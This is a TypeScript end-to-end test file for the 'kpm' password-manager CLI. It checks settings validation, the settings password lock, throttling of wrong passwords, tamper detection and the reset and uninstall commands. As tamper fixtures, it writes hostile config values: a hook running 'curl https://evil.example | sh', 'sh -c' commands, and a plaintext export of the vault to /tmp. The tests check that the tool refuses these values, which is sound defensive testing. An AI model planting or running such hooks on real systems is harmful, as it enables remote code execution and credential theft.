// Settings and their protection, end to end through the built binary (issue 6, R37, R38):
// kpm config, kpm settings lock|unlock|status|recover, the guard on and off a terminal, the
// throttle, hand-edited files (exit 8), kpm reset and kpm uninstall.
import * as fs from 'node:fs';
import { join } from 'node:path';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  kpmWith, addEntry, copyHome, initHome, agentPid, describeRun, describeTty, makeHome, MASTER, runTty, withMaster, waitUntil, type RunResult,
} from '../helpers/kpm.js';

const SETTINGS_PW = 'settings password 42';

const cfgPath = (home: string) => join(home, 'config', 'config.json');
const markerPath = (home: string) => join(home, 'data', 'settings.lock');
const throttlePath = (home: string) => join(home, 'data', 'settings.throttle');
const readCfg = (home: string) => JSON.parse(fs.readFileSync(cfgPath(home), 'utf8')) as Record<string, unknown>;
const writeCfg = (home: string, v: unknown) => fs.writeFileSync(cfgPath(home), JSON.stringify(v, null, '\t'));
const mode = (p: string) => fs.statSync(p).mode & 0o777;

/** Whether a process still runs (a zombie waiting to be reaped has ended). Waits up to 30 s for it to end (only one that never ends fails, not a slow machine). */
async function stillRunning(pid: number): Promise<boolean> {
  const ended = () => {
    try {
      return /^State:\s+Z/m.test(fs.readFileSync(`/proc/${pid}/status`, 'utf8'));
    } catch {
      return true;
    }
  };
  return waitUntil(`process ${pid} to end`, ended).then(
    () => false,
    () => true,
  );
}

/** `kpm(home, args, code, {env, input})`: exit `code`, no stack trace, neither password in the output. */
const kpm = kpmWith({ secrets: [MASTER, SETTINGS_PW] });

async function lockedHome(): Promise<string> {
  const home = initHome();
  await kpm(home, ['config', 'set', 'autolock', '20'], 0);
  await kpm(home, ['settings', 'lock', '--password-stdin'], 0, { input: SETTINGS_PW + '\n' });
  return home;
}

describe('kpm config', () => {
  let home: string;
  beforeAll(async () => {
    home = initHome();
  });

  it('lists every key with its default, sets typed values, gets and resets them', async () => {
    const list = JSON.parse((await kpm(home, ['config', 'list', '--json'], 0)).stdout);
    expect(list).toEqual({
      server: null, autolock: 15, clipboard_clear: 30, 'generator.length': 20, 'generator.symbols': true, 'generator.words': 6,
      sync: 'auto', default_vault: 'Personal', color: 'auto',
      audit_min_score: 3, audit_max_age_days: 365, hibp_url: 'https://api.pwnedpasswords.com', 'history.keep': 20, 'trash.days': 30,
      'share.require_verified': false,
    });
    await kpm(home, ['config', 'set', 'generator.length', '32'], 0);
    await kpm(home, ['config', 'set', 'generator.symbols', 'false'], 0);
    await kpm(home, ['config', 'set', 'sync', 'manual'], 0);
    await kpm(home, ['config', 'set', 'server', 'https://kpm.example.org'], 0);
    expect(readCfg(home)).toEqual({ generator: { length: 32, symbols: false }, sync: 'manual', server: 'https://kpm.example.org' });
    expect(mode(cfgPath(home))).toBe(0o600);
    expect(mode(join(home, 'config'))).toBe(0o700);
    expect((await kpm(home, ['config', 'get', 'generator.length'], 0)).stdout).toBe('32\n');
    expect(JSON.parse((await kpm(home, ['config', 'get', 'generator.symbols', '--json'], 0)).stdout)).toEqual({ key: 'generator.symbols', value: false, default: true, isDefault: false });
    const human = (await kpm(home, ['config', 'list'], 0)).stdout;
    expect(human).toMatch(/^generator\.length\s+= 32$/m);
    expect(human).toMatch(/^autolock\s+= 15 {2}# default$/m);
    await kpm(home, ['config', 'reset', 'generator.length'], 0);
    await kpm(home, ['config', 'reset', 'server'], 0);
    expect((await kpm(home, ['config', 'get', 'server'], 0)).stdout).toBe('');
    expect(readCfg(home)).toEqual({ generator: { symbols: false }, sync: 'manual' });
  });

  it('refuses unknown keys and invalid values with exit 2, naming what is allowed, and leaves the file untouched', async () => {
    await kpm(home, ['config', 'set', 'sync', 'manual'], 0); // a settings file of its own (not the one the test before left)
    const before = fs.readFileSync(cfgPath(home));
    const cases: [string[], RegExp][] = [
      [['config', 'set', 'hooks', 'x'], /unknown setting "hooks"; the settings are: server, autolock/],
      [['config', 'set', 'autolock', 'soon'], /autolock must be a whole number from 0 to 10080, got "soon"/],
      [['config', 'set', 'autolock', '-5'], /autolock must be a whole number from 0 to 10080/],
      [['config', 'set', 'autolock', '99999'], /from 0 to 10080/],
      [['config', 'set', 'generator.symbols', 'yes'], /generator\.symbols must be true or false/],
      [['config', 'set', 'sync', 'weekly'], /sync must be one of: auto, manual/],
      [['config', 'set', 'color', 'pink'], /color must be one of: auto, always, never/],
      [['config', 'set', 'server', 'http://example.org'], /server must be an https:\/\/ URL/],
      [['config', 'set', 'hibp_url', 'ftp://x'], /hibp_url must be an https:\/\/ URL/],
      [['config', 'get', 'nope'], /unknown setting "nope"/],
      [['config', 'reset', 'export'], /unknown setting "export"/],
    ];
    for (const [args, msg] of cases) {
      const r = await kpm(home, args, 2);
      expect(r.stderr, args.join(' ')).toMatch(msg);
      expect(r.stderr.trim().split('\n').length, args.join(' ')).toBe(1);
    }
    expect(fs.readFileSync(cfgPath(home)).equals(before)).toBe(true);
  });

  it('`kpm get` does not read the settings: it works even with a broken config.json', async () => {
    const h = initHome();
    await addEntry(h, 'site', 'site-secret');
    fs.mkdirSync(join(h, 'config'), { recursive: true });
    writeCfg(h, { autolock: 'never', hooks: { post: 'sh -c evil' } });
    const g = await kpm(h, ['get', 'site'], 0, { env: withMaster() });
    expect(g.stdout).toBe('site-secret\n');
    // a command that reads the settings refuses the invalid file (exit 8), naming the problems
    const l = await kpm(h, ['config', 'list'], 8);
    expect(l.stderr).toMatch(/unknown setting "hooks"/);
    expect(l.stderr).toMatch(/autolock must be/);
  });
});

describe('kpm settings lock: guarded actions', () => {
  // each test works on its own copy of one locked home
  let base: string;
  let home: string;
  beforeAll(async () => {
    base = await lockedHome();
  });
  beforeEach(() => {
    home = copyHome(base);
  });

  it('stores only an Argon2id verifier (≥ the floor), a signature and a marker; status shows the guarded actions', async () => {
    const cfg = readCfg(home);
    const raw = fs.readFileSync(cfgPath(home), 'utf8');
    expect(raw).not.toContain(SETTINGS_PW);
    const p = cfg.protection as Record<string, string>;
    expect(p.verifier).toMatch(/^\$argon2id\$v=19\$m=65536,t=3,p=4\$[A-Za-z0-9+/=]{24}\$[A-Za-z0-9+/=]{44}$/);
    expect(Object.keys(p).sort()).toEqual(['lockedAt', 'mac', 'publicKey', 'signature', 'signingKey', 'source', 'verifier', 'version']);
    expect(JSON.parse(fs.readFileSync(markerPath(home), 'utf8'))).toEqual({ version: 1, publicKey: p.publicKey });
    expect(mode(markerPath(home))).toBe(0o600);
    const s = JSON.parse((await kpm(home, ['settings', 'status', '--json'], 0)).stdout);
    expect(s).toMatchObject({ protected: true, source: 'separate', failures: 0 });
    expect(s.guarded).toEqual(['config set', 'config reset', 'settings unlock', 'logout', 'reset', 'agent stop', '2fa disable', 'devices revoke', 'account unlink', 'token revoke', 'vault rm', 'uninstall']);
    // reading needs no password
    expect((await kpm(home, ['config', 'get', 'autolock'], 0)).stdout).toBe('20\n');
    // locking again is refused: unlock first
    await kpm(home, ['settings', 'lock', '--password-stdin'], 2, { input: 'another password\n' });
  });

  it('off a terminal, guarded commands without the settings password exit 4 and change nothing', async () => {
    const before = fs.readFileSync(cfgPath(home));
    for (const args of [['config', 'set', 'autolock', '1'], ['config', 'reset', 'autolock'], ['settings', 'unlock'], ['reset', '--yes'], ['uninstall', '--yes']]) {
      const r = await kpm(home, args, 4);
      expect(r.stderr, args.join(' ')).toMatch(/needs the settings password/);
      expect(r.stderr, args.join(' ')).toMatch(/--settings-password-stdin/);
    }
    // KPM_MASTER_PASSWORD is not the settings password
    await kpm(home, ['config', 'set', 'autolock', '1'], 4, { env: withMaster() });
    expect(fs.readFileSync(cfgPath(home)).equals(before)).toBe(true);
    expect(fs.existsSync(join(home, 'data', 'keyring.kpm'))).toBe(true);
  });

  it('with --settings-password-stdin they are accepted, and the file stays verifiable', async () => {
    await kpm(home, ['config', 'set', 'autolock', '25', '--settings-password-stdin'], 0, { input: SETTINGS_PW + '\n' });
    expect((await kpm(home, ['config', 'get', 'autolock'], 0)).stdout).toBe('25\n');
    await kpm(home, ['config', 'reset', 'autolock', '--settings-password-stdin'], 0, { input: SETTINGS_PW + '\n' });
    expect((await kpm(home, ['config', 'get', 'autolock'], 0)).stdout).toBe('15\n');
    expect(JSON.parse((await kpm(home, ['settings', 'status', '--json'], 0)).stdout).protected).toBe(true);
  });

  it('on a terminal, a guarded command asks for the settings password (masked) and goes ahead with it', async () => {
    const args = ['config', 'set', 'clipboard_clear', '45'];
    const r = await runTty(args, [{ expect: 'Settings password', send: SETTINGS_PW + '\r' }, { expect: 'clipboard_clear = 45' }], { home });
    expect(r.code, describeTty(args, r)).toBe(0);
    expect(r.transcript).not.toContain(SETTINGS_PW);
    expect((await kpm(home, ['config', 'get', 'clipboard_clear'], 0)).stdout).toBe('45\n');
    const wrong = await runTty(['settings', 'unlock'], [{ expect: 'Settings password', send: 'not it at all\r' }, { expect: 'wrong settings password' }], { home });
    expect(wrong.code, describeTty(['settings', 'unlock'], wrong)).toBe(5);
    expect(JSON.parse((await kpm(home, ['settings', 'status', '--json'], 0)).stdout).protected).toBe(true);
  });
});

describe('settings lock on a terminal, --use-master, and unlock', () => {
  it('asks for the new settings password twice; unlock restores normal behaviour', async () => {
    const home = initHome();
    const args = ['settings', 'lock'];
    const r = await runTty(args, [
      { expect: 'Choose a settings password', send: SETTINGS_PW + '\r' },
      { expect: 'Repeat the settings password', send: SETTINGS_PW + '\r' },
      { expect: 'settings are protected' },
    ], { home });
    expect(r.code, describeTty(args, r)).toBe(0);
    expect(r.transcript).not.toContain(SETTINGS_PW);
    await kpm(home, ['config', 'set', 'autolock', '3'], 4);
    await kpm(home, ['settings', 'unlock', '--settings-password-stdin'], 0, { input: SETTINGS_PW + '\n' });
    expect(fs.existsSync(markerPath(home))).toBe(false);
    expect(readCfg(home).protection).toBeUndefined();
    await kpm(home, ['config', 'set', 'autolock', '3'], 0);
    expect(JSON.parse((await kpm(home, ['settings', 'status', '--json'], 0)).stdout).protected).toBe(false);
  });

  it('--use-master checks the master password against the vault and then guards with it', async () => {
    const home = initHome();
    await kpm(home, ['settings', 'lock', '--use-master', '--password-stdin'], 5, { input: 'not the master password\n' });
    expect(fs.existsSync(markerPath(home))).toBe(false);
    await kpm(home, ['settings', 'lock', '--use-master', '--password-stdin'], 0, { input: MASTER + '\n' });
    expect(JSON.parse((await kpm(home, ['settings', 'status', '--json'], 0)).stdout)).toMatchObject({ protected: true, source: 'master' });
    await kpm(home, ['config', 'set', 'sync', 'manual', '--settings-password-stdin'], 0, { input: MASTER + '\n' });
  });

  it('settings lock needs a vault (so that recovery with the master password is possible)', async () => {
    const home = makeHome();
    await kpm(home, ['settings', 'lock', '--password-stdin'], 3, { input: SETTINGS_PW + '\n' });
  });
});

describe('throttling of wrong settings passwords', () => {
  it('exit 5 each time; after 3 failures each try waits longer (1 s, then 2 s), persisted across runs; the right password resets it', async () => {
    const home = await lockedHome();
    const args = ['config', 'set', 'autolock', '9', '--settings-password-stdin'];
    const wrong = (): Promise<RunResult> => kpm(home, args, 5, { input: 'wrong settings password\n' });
    const free = [await wrong(), await wrong(), await wrong()];
    for (const r of free) expect(r.stderr).not.toMatch(/waiting/);
    expect(JSON.parse(fs.readFileSync(throttlePath(home), 'utf8')).failures).toBe(3);
    expect(mode(throttlePath(home))).toBe(0o600);
    const waited = (r: RunResult) => Number(/in a row; waiting ([\d.]+) s/.exec(r.stderr)?.[1]);
    const state = () => JSON.parse(fs.readFileSync(throttlePath(home), 'utf8')) as { failures: number; nextAt: number };
    // No timing thresholds: each try's own clock reading lies between the test's readings before and
    // after it, so what the state file books, and when a try may end, follow from them. Whether kpm
    // still had to wait when it looked (and so says "waiting") depends on how fast it started (the
    // slot may be past on a busy machine), so the message is checked whenever it is shown.
    const third = state();
    const fourthStart = Date.now();
    const fourth = await wrong();
    const fourthEnd = Date.now();
    expect(fourthEnd, describeRun(args, fourth)).toBeGreaterThanOrEqual(third.nextAt); // checked no earlier than the 1 s slot
    expect(third.nextAt - fourthStart).toBeLessThanOrEqual(1000);
    const afterFourth = state();
    expect(afterFourth.failures).toBe(4);
    expect(afterFourth.nextAt - fourthStart).toBeGreaterThanOrEqual(2000); // the next wait: 2 s after this failure
    if (/waiting/.test(fourth.stderr)) {
      expect(fourth.stderr).toMatch(/3 wrong settings passwords in a row; waiting [\d.]+ s/);
      expect(waited(fourth)).toBeLessThanOrEqual(1);
    }
    const fifth = await wrong();
    const fifthEnd = Date.now();
    expect(fifthEnd, describeRun(args, fifth)).toBeGreaterThanOrEqual(afterFourth.nextAt); // no earlier than the 2 s slot
    if (/waiting/.test(fifth.stderr)) {
      expect(fifth.stderr).toMatch(/4 wrong settings passwords in a row; waiting [\d.]+ s/);
      expect(waited(fifth)).toBeLessThanOrEqual(2);
    }
    const afterFifth = state();
    expect(afterFifth.failures).toBe(5);
    // the next wait is 4 s, counted from the fifth try (its clock read before `fifthEnd`, after the slot)
    expect(afterFifth.nextAt - afterFourth.nextAt).toBeGreaterThanOrEqual(4000);
    expect(afterFifth.nextAt).toBeLessThanOrEqual(fifthEnd + 4000);
    const s = JSON.parse((await kpm(home, ['settings', 'status', '--json'], 0)).stdout);
    expect(s.failures).toBe(5);
    // the right password still works (after the wait) and starts the count again
    const ok = await kpm(home, args, 0, { input: SETTINGS_PW + '\n' });
    expect(Date.now()).toBeGreaterThanOrEqual(afterFifth.nextAt); // checked no earlier than the 4 s slot
    if (/waiting/.test(ok.stderr)) expect(ok.stderr).toMatch(/5 wrong settings passwords in a row; waiting [\d.]+ s/);
    expect(fs.existsSync(throttlePath(home))).toBe(false);
  });
});

describe('hand-edited settings are refused (exit 8) until `kpm settings recover`', () => {
  // each test works on its own copy of one locked home
  let base: string;
  let home: string;
  let original: Buffer;
  let marker: Buffer;
  beforeAll(async () => {
    base = await lockedHome();
    original = fs.readFileSync(cfgPath(base));
    marker = fs.readFileSync(markerPath(base));
  });
  beforeEach(() => {
    home = copyHome(base);
  });
  const restore = () => {
    fs.writeFileSync(cfgPath(home), original);
    fs.writeFileSync(markerPath(home), marker);
  };

  const tampers: [string, () => void][] = [
    ['a changed value', () => writeCfg(home, { ...JSON.parse(original.toString()), autolock: 0 })],
    ['R37: an added unknown key "hooks"', () => writeCfg(home, { ...JSON.parse(original.toString()), hooks: { 'post-unlock': 'curl https://evil.example | sh' } })],
    ['R37: an added unknown key "export"', () => writeCfg(home, { ...JSON.parse(original.toString()), export: { path: '/tmp/all.csv', format: 'plaintext' } })],
    ['R37: an added unknown key "command"', () => writeCfg(home, { ...JSON.parse(original.toString()), command: 'sh -c id' })],
    ['the protection record removed', () => { const { protection: _p, ...rest } = JSON.parse(original.toString()); writeCfg(home, rest); }],
    ['the protection marker deleted', () => fs.rmSync(markerPath(home))],
    ['config.json deleted', () => fs.rmSync(cfgPath(home))],
    ['config.json not JSON', () => fs.writeFileSync(cfgPath(home), '{"autolock": 15,')],
  ];

  for (const [name, tamper] of tampers) {
    it(`${name}: readers and guarded commands exit 8 and point to \`kpm settings recover\``, async () => {
      restore();
      tamper();
      for (const args of [['config', 'list'], ['settings', 'status'], ['config', 'set', 'autolock', '5', '--settings-password-stdin']]) {
        const r = await kpm(home, args, 8, { input: SETTINGS_PW + '\n' });
        expect(r.stderr, args.join(' ')).toMatch(/failed verification/);
        expect(r.stderr, args.join(' ')).toMatch(/kpm settings recover/);
        expect(r.stdout).toBe('');
      }
      // the agent does not start with tampered settings
      const u = await kpm(home, ['unlock', '--password-stdin'], 8, { input: MASTER + '\n' });
      expect(u.stderr).toMatch(/kpm settings recover/);
      expect(agentPid(home)).toBeUndefined();
    });
  }

  it('recover needs the master password (exit 5 without the right one), keeps only valid settings, and lists the non-default ones', async () => {
    restore();
    writeCfg(home, { ...JSON.parse(original.toString()), autolock: 0, clipboard_clear: 'never', hooks: { x: 'y' } });
    await kpm(home, ['config', 'list'], 8);
    await kpm(home, ['settings', 'recover'], 4); // no terminal, no password given
    await kpm(home, ['settings', 'recover', '--password-stdin'], 5, { input: SETTINGS_PW + '\n' });
    expect(fs.existsSync(markerPath(home))).toBe(true);
    const r = await kpm(home, ['settings', 'recover', '--password-stdin'], 0, { input: MASTER + '\n' });
    expect(r.stderr).toMatch(/dropped: unknown setting "hooks"/);
    expect(r.stderr).toMatch(/dropped: clipboard_clear must be/);
    expect(r.stderr).toMatch(/autolock = 0/);
    expect(readCfg(home)).toEqual({ autolock: 0 });
    expect(fs.existsSync(markerPath(home))).toBe(false);
    expect(JSON.parse((await kpm(home, ['settings', 'status', '--json'], 0)).stdout).protected).toBe(false);
    // normal behaviour again, and it can be locked with a new password
    await kpm(home, ['config', 'reset', 'autolock'], 0);
    await kpm(home, ['settings', 'lock', '--password-stdin'], 0, { input: 'a brand new settings pw\n' });
    await kpm(home, ['config', 'set', 'autolock', '7', '--settings-password-stdin'], 5, { input: SETTINGS_PW + '\n' });
    await kpm(home, ['config', 'set', 'autolock', '7', '--settings-password-stdin'], 0, { input: 'a brand new settings pw\n' });
  });

  it('recover also resets a forgotten settings password of intact settings', async () => {
    const h = await lockedHome();
    await kpm(h, ['settings', 'recover', '--password-stdin'], 0, { input: MASTER + '\n' });
    expect((await kpm(h, ['config', 'get', 'autolock'], 0)).stdout).toBe('20\n');
    await kpm(h, ['config', 'set', 'autolock', '8'], 0);
  });
});

describe('kpm reset and kpm uninstall', () => {
  it('reset: guarded; with the settings password it stops the agent and deletes data, settings and agent files', async () => {
    const home = await lockedHome();
    await kpm(home, ['unlock', '--password-stdin'], 0, { input: MASTER + '\n' });
    const pid = agentPid(home);
    expect(pid).toBeDefined();
    await kpm(home, ['reset'], 2); // no terminal and no --yes
    await kpm(home, ['reset', '--yes'], 4);
    await kpm(home, ['reset', '--yes', '--settings-password-stdin'], 5, { input: 'wrong one entirely\n' });
    expect(fs.existsSync(join(home, 'data', 'keyring.kpm'))).toBe(true);
    await kpm(home, ['reset', '--yes', '--settings-password-stdin'], 0, { input: SETTINGS_PW + '\n' });
    for (const d of ['data', 'config', 'run']) expect(fs.existsSync(join(home, d)), d).toBe(false);
    expect(agentPid(home)).toBeUndefined();
    expect(await stillRunning(pid!)).toBe(false);
    const s = await kpm(home, ['status', '--json'], 0);
    expect(JSON.parse(s.stdout).initialized).toBe(false);
  });

  it('reset on a terminal asks for the settings password, then for confirmation', async () => {
    const home = await lockedHome();
    const no = await runTty(['reset'], [{ expect: 'Settings password', send: SETTINGS_PW + '\r' }, { expect: 'Delete all local kpm data', send: 'n\r' }, { expect: 'Nothing deleted' }], { home });
    expect(no.code, describeTty(['reset'], no)).toBe(0);
    expect(fs.existsSync(join(home, 'data', 'keyring.kpm'))).toBe(true);
    const yes = await runTty(['reset'], [{ expect: 'Settings password', send: SETTINGS_PW + '\r' }, { expect: 'Delete all local kpm data', send: 'y\r' }, { expect: 'Deleted' }], { home });
    expect(yes.code, describeTty(['reset'], yes)).toBe(0);
    expect(fs.existsSync(join(home, 'data'))).toBe(false);
  });

  it('uninstall (unprotected): removes data and completion scripts and prints the npm command', async () => {
    const home = initHome();
    const scripts = [join(home, '.local/share/bash-completion/completions/kpm'), join(home, '.zfunc/_kpm'), join(home, '.config/fish/completions/kpm.fish')];
    const unrelated = join(home, '.zfunc', '_git');
    for (const f of [...scripts, unrelated]) {
      fs.mkdirSync(join(f, '..'), { recursive: true });
      fs.writeFileSync(f, '# completion\n');
    }
    await kpm(home, ['uninstall'], 2);
    const r = await kpm(home, ['uninstall', '--yes'], 0, { env: { XDG_DATA_HOME: undefined, XDG_CONFIG_HOME: undefined } });
    expect(r.stderr).toMatch(/npm uninstall -g kpm/);
    for (const f of scripts) expect(fs.existsSync(f), f).toBe(false);
    expect(fs.existsSync(unrelated)).toBe(true);
    for (const d of ['data', 'config', 'run']) expect(fs.existsSync(join(home, d)), d).toBe(false);
  });
});
